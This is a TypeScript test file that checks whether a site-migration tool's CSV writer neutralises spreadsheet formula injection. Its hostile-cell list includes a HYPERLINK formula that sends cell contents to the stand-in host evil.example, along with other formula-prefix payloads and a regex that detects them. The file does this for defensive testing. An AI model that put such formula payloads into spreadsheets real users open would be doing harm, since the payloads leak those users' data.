/**
 * The one CSV writer, read back by a real CSV parser (csv-parse): hostile cells — formulas,
 * quotes, commas, line breaks of every kind, Chinese, full-width formula signs — come back whole and
 * defused, in manifest.csv and redirects.csv alike.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../src/emit/csv.js';
import { manifestCsv } from '../src/emit/manifest.js';
import { redirectsCsv } from '../src/emit/redirect-configs.js';

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'say "hi", then go',
  'line one\nline two',
  'crlf\r\nline',
  'lone\rcr',
  '关于印发《2024年政务公开工作要点》的通知，请各单位遵照执行',
  "'already quoted",
  '',
];

/** What a spreadsheet reader sees: the cells, with the defusing ' taken away again. */
function readBack(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parse(csv, { bom: true, relax_column_count: false }) as string[][];
}

const formula = /^[=+\-@\t\r＝＋－＠]/;

describe('the CSV writer', () => {
  it('round-trips every hostile cell through csv-parse, defused', () => {
    const rows = hostile.map((cell, i) => [String(i), cell, ['a', cell]] as const);
    const back = readBack(toCsv(['n', 'cell', 'list'], rows));
    expect(back[0]).toEqual(['n', 'cell', 'list']);
    expect(back).toHaveLength(hostile.length + 1);
    hostile.forEach((cell, i) => {
      const [n, got, list] = back[i + 1] ?? [];
      expect(n).toBe(String(i));
      expect(got).toBe(formula.test(cell) ? `'${cell}` : cell);
      expect(list).toBe(`a ${cell}`);
    });
    for (const row of back) for (const cell of row) expect(cell).not.toMatch(formula);
  });

  it('writes CRLF line ends, nothing for an absent value, numbers as digits', () => {
    const csv = toCsv(['a', 'b', 'c'], [[undefined, null, 404]]);
    expect(csv).toBe('\uFEFFa,b,c\r\n,,404\r\n');
  });

  it('defuses the manifest and the redirects alike', () => {
    const cell = '=HYPERLINK("http://evil.example/","旧网站")';
    const manifest = readBack(
      manifestCsv([
        { sourceUrl: 'http://old.example.gov.cn/a.html', kind: 'article', outcome: 'migrated', reason: cell, referrers: [cell] },
      ]),
    );
    const header = manifest[0] ?? [];
    const row = manifest[1] ?? [];
    expect(row[header.indexOf('reason')]).toBe(`'${cell}`);
    expect(row[header.indexOf('referrers')]).toBe(`'${cell}`);
    const redirects = readBack(
      redirectsCsv([{ from: '/a.html?x=1,2', to: 'https://www.example.gov.cn/b/', kind: 'article', reason: cell }]),
    );
    expect(redirects[0]).toEqual(['from', 'to', 'kind', 'reason', 'path', 'query']);
    expect(redirects[1]?.slice(0, 4)).toEqual(['/a.html?x=1,2', 'https://www.example.gov.cn/b/', 'article', `'${cell}`]);
  });
});
